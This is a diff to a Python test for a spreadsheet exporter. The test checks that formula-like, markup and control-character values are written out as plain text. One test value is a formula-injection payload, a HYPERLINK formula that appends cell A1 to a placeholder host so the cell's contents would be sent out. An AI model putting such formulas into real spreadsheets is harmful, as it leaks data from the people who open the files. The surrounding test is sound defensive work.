@@ -93,7 +93,14 @@ def test_an_import_refuses_hostile_cells():
 
 def test_export_writes_formula_like_text_as_text_and_survives_illegal_characters():
     content = build_workbook(
-        "t", ["名称"], [['=HYPERLINK("http://x.example/"&A1,"详情")'], ["-1+2"], ["甲\x00\x1b乙"]]
+        "t",
+        ["名称"],
+        [
+            ['=HYPERLINK("http://x.example/"&A1,"详情")'],
+            ["-1+2"],
+            ["甲\x00\x1b乙"],
+            ["<b>甲&乙</b>\r\n丙\t丁"],
+        ],
     )
     sheet = load_workbook(io.BytesIO(content)).active
     assert (
@@ -103,6 +110,7 @@ def test_export_writes_formula_like_text_as_text_and_survives_illegal_characters
     )
     assert sheet["A3"].data_type == "s" and sheet["A3"].quotePrefix
     assert sheet["A4"].value == "甲\ufffd\ufffd乙"
+    assert sheet["A5"].value == "<b>甲&乙</b>\r\n丙\t丁"  # markup characters escaped, line breaks kept
 
 
 def _stored_hostile_names(world):
